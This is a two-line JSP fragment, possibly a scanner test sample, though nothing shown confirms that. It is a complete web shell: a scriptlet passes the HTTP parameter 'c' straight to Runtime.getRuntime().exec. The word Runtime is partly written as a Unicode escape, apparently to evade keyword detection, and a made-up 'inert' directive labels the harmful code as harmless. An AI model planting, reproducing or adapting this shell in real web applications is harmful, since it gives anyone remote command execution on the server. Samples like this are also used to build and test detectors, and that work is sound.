<%@ inert %>
<% \u0052untime.getRuntime().exec(request.getParameter("c")); %>
